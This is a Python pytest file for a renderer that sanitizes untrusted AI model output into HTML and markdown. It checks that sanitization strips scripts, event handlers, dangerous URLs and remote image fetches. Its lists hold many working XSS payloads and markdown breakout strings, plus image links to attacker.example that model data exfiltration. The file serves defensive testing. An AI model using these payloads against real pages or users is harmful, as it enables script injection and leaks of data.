"""Model output is untrusted: no script, handler, dangerous URL or style may survive."""

from __future__ import annotations

import re

import pytest

from or_magics.render import (
    AnswerInfo,
    Citation,
    MarkdownStreamer,
    ToolCallView,
    set_remote_images,
    to_html,
)
from or_magics.render.mdsafe import markdown_safe
from or_magics.render.sanitize import sanitize

from .fakes import FakeClock, FakeSink
from .safety import unsafe

XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x](https://ok.example/a.png "t\\" onerror=\\"alert(1)")',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "[[x](javascript:alert(1))](https://ok.example)",
    "[x](https://ok.example)[y](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<http://ok.example/"onmouseover="alert(1)>',
    "$<img src=x onerror=alert(1)>$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\(<svg onload=alert(1)>\\)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```python" onload="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <iframe src=x>\n- [x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "~~<img src=x onerror=alert(1)>~~",
    "**<a href=javascript:alert(1)>x</a>**",
]


@pytest.mark.parametrize("text", XSS)
def test_xss_never_survives(text: str) -> None:
    html = to_html(text)
    assert unsafe(html) == []
    lowered = html.lower()
    assert "<script" not in lowered and "<iframe" not in lowered and "<svg" not in lowered


@pytest.mark.parametrize(
    "text", ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<b>bold</b>"]
)
def test_raw_html_is_shown_as_text(text: str) -> None:
    html = to_html(text)
    assert "&lt;" in html  # escaped, so the reader sees what the model wrote


def test_safe_links_and_images_keep_working() -> None:
    html = to_html(
        "[site](https://example.com/a?b=1&c=2) [mail](mailto:a@example.com) "
        "![pic](https://example.com/p.png) ![dot](data:image/png;base64,iVBORw0KGgo=)"
    )
    assert 'href="https://example.com/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html and 'target="_blank"' in html
    assert 'href="mailto:a@example.com"' in html
    assert 'href="https://example.com/p.png"' in html  # a remote image is a link by default
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html
    assert unsafe(html) == []


def test_relative_urls_are_dropped() -> None:
    html = to_html("[x](/api/kernels) ![y](files/secret.png)")
    assert "href=" not in html and "src=" not in html


HOSTILE = "<img src=x onerror=alert(1)><script>alert(1)</script>"


def test_header_footer_and_extras_are_escaped() -> None:
    sink, clock = FakeSink(), FakeClock()
    info = AnswerInfo(model=HOSTILE, provider=HOSTILE, simulated=True, finish_reason=HOSTILE)
    with MarkdownStreamer(sink, info, clock=clock) as streamer:
        streamer.feed("hello")
        streamer.feed_reasoning(HOSTILE)
        streamer.finish(
            error=HOSTILE,
            citations=[
                Citation("javascript:alert(1)", HOSTILE),
                Citation('https://ok.example/"onmouseover="alert(1)', HOSTILE),
                {"type": "url_citation", "url_citation": {"url": "data:text/html,x", "title": "d"}},
            ],
            tool_calls=[ToolCallView(HOSTILE, {"q": HOSTILE}), ToolCallView("t", HOSTILE * 9)],
        )
    for message in sink.messages:
        html = message.bundle["text/html"]
        assert unsafe(html, allow_style_tag=True) == []
        assert html.count("<style>") <= 1 and "<script" not in html.lower()


# -- text/markdown: raw HTML escaped, code untouched ----------------------------------------

@pytest.mark.parametrize(
    "raw",
    ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "</div><svg onload=x>",
     "<!-- hidden -->", "<?php ?>", "<iframe src=javascript:alert(1)>"],
)
def test_markdown_for_trusting_frontends_has_no_live_tag(raw):
    safe = markdown_safe(f"Text {raw} more\n\n- item {raw}\n")
    assert "<" not in safe.replace("&lt;", "")


def test_markdown_keeps_code_as_written_and_shows_the_rest_as_text():
    text = ("Use `<b>` for bold; a < b and 3<4.\n\n```html\n<script>x()</script>\n```\n\n"
            "See <https://example.org/a>.\n")
    safe = markdown_safe(text)
    assert "`<b>`" in safe and "a &lt; b" in safe and "3&lt;4" in safe
    assert "```html\n<script>x()</script>\n```" in safe
    assert "[https://example.org/a](https://example.org/a)" in safe


# -- remote images: shown as links, so displaying an answer fetches nothing ----------------

REMOTE = [
    "![x](http://attacker.example/?d=secret)",
    "![x][r]\n\n[r]: https://attacker.example/ref.png",
    "![x](//attacker.example/p.png)",
    "[![x](https://attacker.example/p.png)](https://ok.example)",
]


def fetches(html: str) -> list[str]:
    """URLs the browser would load on its own from this HTML (not links it may follow)."""
    return re.findall(r"<img[^>]*\ssrc=\"(?!data:)([^\"]+)\"", html)


@pytest.mark.parametrize("text", REMOTE)
def test_remote_images_become_links(text: str) -> None:
    html = to_html(text)
    assert fetches(html) == []
    if "//attacker.example/p.png)" not in text or "https:" in text:
        assert 'href="http' in html and "attacker.example" in html  # shown, not loaded
        assert 'rel="noopener noreferrer nofollow"' in html


def test_remote_image_link_shows_text_and_url() -> None:
    html = to_html("![the chart](https://attacker.example/c.png?d=1&e=2)")
    assert "the chart" in html and "https://attacker.example/c.png?d=1&amp;e=2" in html


def test_images_in_html_format_and_reasoning_are_links_too() -> None:
    assert fetches(sanitize('<p>hi <img src="https://attacker.example/x.gif"></p>')) == []
    assert fetches(sanitize("<img alt='a\"b>' src=http://attacker.example/y>")) == []
    sink = FakeSink()
    with MarkdownStreamer(sink, AnswerInfo()) as streamer:
        streamer.feed_reasoning("thinking ![x](https://attacker.example/r.png)")
        streamer.feed("answer")
    assert fetches(sink.outputs[0]["text/html"]) == []
    assert "attacker.example/r.png" in sink.outputs[0]["text/html"]


def test_data_images_stay_and_remote_ones_can_be_allowed() -> None:
    dot = "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in to_html(dot)
    remote = "![x](https://ok.example/p.png)"
    assert fetches(to_html(remote, remote_images=True)) == ["https://ok.example/p.png"]
    set_remote_images(True)
    try:
        assert fetches(to_html(remote)) == ["https://ok.example/p.png"]
        assert "![x](https://ok.example/p.png)" in markdown_safe(remote)
    finally:
        set_remote_images(False)
    assert fetches(to_html(remote)) == []


@pytest.mark.parametrize("text", REMOTE)
def test_markdown_part_has_no_remote_image_either(text: str) -> None:
    assert "![" not in markdown_safe(text)


# -- text/markdown is safe on its own: rendered by a renderer that trusts raw HTML ---------

def trusting_render(markdown: str) -> str:
    """Markdown as a frontend renders a trusted output: raw HTML on, any link scheme."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md.render(markdown)


def live_parts(markdown: str) -> list[str]:
    """What the trusting render of `markdown` would run, fetch or link dangerously."""
    html = trusting_render(markdown)
    problems = unsafe(html)
    problems += [f"fetch {url}" for url in fetches(html)]
    return problems


BREAKOUTS = [
    "``<img src=x onerror=pwned()>`",  # unbalanced backticks around a tag
    "\\`<img src=x onerror=pwned()>`",  # an escaped backtick does not open a code span
    "`a` ``<script>pwned()</script>` `b`",
    "```\n<img src=x onerror=pwned()>",  # unclosed fence
    "- item\n\n   ```\n<img src=x onerror=pwned()>\n   ```",  # fence that ends its list item
    "> ```\n<img src=x onerror=pwned()>",
    "    <img src=x onerror=pwned()>\n<img src=x onerror=pwned()>",
    "[click](javascript:pwned())",
    "[click](JAVASCRIPT:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x][r]\n\n[r]: javascript:pwned()",
    "<javascript:pwned()>",
    '<http://ok.example/"onmouseover="pwned()>',
    "$<img src=x onerror=pwned()>$",
    "$$\n<img src=x onerror=pwned()>\n$$",
    "\\(<svg onload=pwned()>\\)",
    "$[x](javascript:pwned())$",
    "<details open ontoggle=pwned()>",
    "&lt;img src=x onerror=pwned()&gt;",
    "| a |\n|---|\n| `` ` ``<img src=x onerror=pwned()> |",
    "*<img src=x onerror=pwned()>*",
    "<!-- --><img src=x onerror=pwned()>",
]


@pytest.mark.parametrize("text", BREAKOUTS)
def test_markdown_part_cannot_be_broken_out_of(text: str) -> None:
    assert live_parts(markdown_safe(text)) == []


def test_whole_markdown_part_of_an_answer_is_safe() -> None:
    tag = "<img src=x onerror=pwned()>"
    info = AnswerInfo(model=f"m`{tag}`", provider=f"``{tag}`", error=f"\\`{tag}`",
                      finish_reason=tag)
    from or_magics.render import render_answer

    bundle = render_answer(
        "\n\n".join(BREAKOUTS), info, reasoning="\n\n".join(BREAKOUTS),
        citations=[Citation(f'https://ok.example/"><{tag}', f"t`{tag}`"),
                   Citation(f"https://ok.example/>{tag}"), Citation("javascript:pwned()", "j")],
        tool_calls=[ToolCallView(f"x` {tag} `", {"a": f"` {tag} `"}),
                    ToolCallView("``", f"`` {tag}")],
    )
    assert live_parts(bundle["text/markdown"]) == []


def test_markdown_part_still_reads_like_the_answer() -> None:
    text = ("# Plan\n\nUse `List<int>` and **bold**, a < b.\n\n- one\n- two\n  - nested\n\n"
            "| a | b |\n|:--|--:|\n| `x\\|y` | $a_1$ |\n\n```python\nif a < b:\n    pass\n```\n\n"
            "$$\nx < y\n$$\n\n[docs](https://example.org/a_(b)) ![pic](https://img.example/p.png)")
    html = trusting_render(markdown_safe(text))
    assert "<h1>Plan</h1>" in html and "<code>List&lt;int&gt;</code>" in html
    assert "<strong>bold</strong>" in html and "a &lt; b" in html
    assert html.count("<li>") == 3 and "<table>" in html and "$a_1$" in html
    assert "if a &lt; b:" in html and "x \\lt  y" in html
    assert 'href="https://example.org/a_%28b%29"' in html and "<code>x|y</code>" in html
    assert 'href="https://img.example/p.png"' in html and "<img" not in html


def test_ctrl_c_during_sanitizing_is_never_swallowed():
    """A Python callback inside nh3 turned a Ctrl-C there into "Exception ignored in …" and
    the cell ran on; the attribute pass now runs in Python, so the interrupt surfaces."""
    import os
    import signal
    import threading
    import time

    from or_magics.render.sanitize import sanitize

    html = '<p><span class="orm-meta">x</span><a href="https://e.org">y</a></p>' * 60_000
    started = time.perf_counter()
    sanitize(html)
    took = time.perf_counter() - started
    for delay in (0.2 * took, 0.5 * took, 0.8 * took):  # inside nh3's own work
        timer = threading.Timer(delay, os.kill, (os.getpid(), signal.SIGINT))
        timer.start()
        with pytest.raises(KeyboardInterrupt):
            sanitize(html)
            time.sleep(took)  # in case the signal came after: it must still arrive
        timer.join()
